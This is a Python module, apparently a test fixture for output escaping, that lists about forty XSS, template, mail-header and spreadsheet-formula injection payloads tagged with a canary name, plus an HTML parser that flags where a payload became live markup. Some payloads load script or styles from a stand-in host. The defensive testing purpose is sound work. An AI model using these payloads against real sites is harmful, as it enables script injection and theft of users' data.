"""Texts that mean harm, and a reader that says where one of them became markup."""

from html.parser import HTMLParser

#: What every payload calls or is named after; it stands nowhere else.
CANARY = "zqhurt"

PAYLOADS: tuple[str, ...] = (
    # elements
    "<script>zqhurt()</script>",
    "<ScRiPt >zqhurt()</sCrIpT>",
    "<script src=//zqhurt.example/x.js></script>",
    "<img src=x onerror=zqhurt()>",
    "<img/src='x'/onerror=zqhurt()>",
    "<svg onload=zqhurt()>",
    "<svg><script>zqhurt()</script></svg>",
    "<svg><animate onbegin=zqhurt() attributeName=x dur=1s>",
    "<body onload=zqhurt()>",
    "<details open ontoggle=zqhurt()>",
    "<input autofocus onfocus=zqhurt()>",
    "<iframe srcdoc='<script>parent.zqhurt()</script>'>",
    "<iframe src=javascript:zqhurt()>",
    "<object data=javascript:zqhurt()>",
    "<form action=javascript:zqhurt()><button>zqhurt",
    "<meta http-equiv=refresh content='0;url=javascript:zqhurt()'>",
    "<base href=//zqhurt.example/>",
    "<style>@import '//zqhurt.example/x.css'</style>",
    "<math><mi//xlink:href='javascript:zqhurt()'>",
    "<template><img src=x onerror=zqhurt()></template>",
    # out of an attribute, a comment, a title, a text area
    '" autofocus onfocus=zqhurt() x="',
    "' autofocus onfocus=zqhurt() x='",
    '"><img src=x onerror=zqhurt()>',
    "'><svg onload=zqhurt()>",
    "--><img src=x onerror=zqhurt()>",
    "</title><img src=x onerror=zqhurt()>",
    "</textarea><img src=x onerror=zqhurt()>",
    "</option></select><img src=x onerror=zqhurt()>",
    "</script><script>zqhurt()</script>",
    "` onmouseover=zqhurt() `",
    # addresses
    "javascript:zqhurt()",
    "JaVaScRiPt:zqhurt()//",
    "data:text/html,<script>zqhurt()</script>",
    # templates and Markdown
    "{{ zqhurt|safe }}",
    "{% debug %}{{ settings.SECRET_KEY }}zqhurt",
    "${zqhurt()} #{zqhurt()} <%= zqhurt() %>",
    "[zqhurt](javascript:zqhurt())",
    '![zqhurt](x"onerror="zqhurt())',
    # Unicode: full width, upside-down order, look-alikes
    "\uff1cscript\uff1ezqhurt()\uff1c/script\uff1e",
    "\u202e<img src=x onerror=zqhurt()>\u202c",
    # mail headers and spreadsheets
    "Subject\r\nBcc: zqhurt@example.org\r\n\r\n<b>zqhurt",
    '=HYPERLINK("//zqhurt.example","zqhurt")',
)


class Markup(HTMLParser):
    """Every place where a payload is more than text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._raw = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._raw = tag if tag in {"script", "style"} else ""
        for name, value in attrs:
            text = value or ""
            if name.startswith("on") or name == "srcdoc" or CANARY in name:
                self.found.append(f"<{tag} {name}>")
            elif name in _ADDRESSES and CANARY in text and not _is_ours(text):
                self.found.append(f"<{tag} {name}={text[:40]}>")
        if CANARY in tag or tag in {"base", "object", "iframe", "math"}:
            self.found.append(f"<{tag}>")

    def handle_endtag(self, tag: str) -> None:
        self._raw = ""

    def handle_data(self, data: str) -> None:
        if self._raw and CANARY in data:
            self.found.append(f"<{self._raw}> with a content")

    def handle_comment(self, data: str) -> None:
        if CANARY in data:
            self.found.append("a comment")


_ADDRESSES = frozenset(
    {"href", "src", "action", "formaction", "data", "content", "xlink:href", "hx-get"}
)


def _is_ours(address: str) -> bool:
    """An address below our own root, or a number to call: what follows is text."""
    ours = ("/", "?", "#", "tel:", "mailto:")
    return address.startswith(ours) and not address.startswith("//")


def markup_in(page: str) -> list[str]:
    """Where a page holds a payload as markup; empty where all are text."""
    reader = Markup()
    reader.feed(page)
    reader.close()
    return reader.found
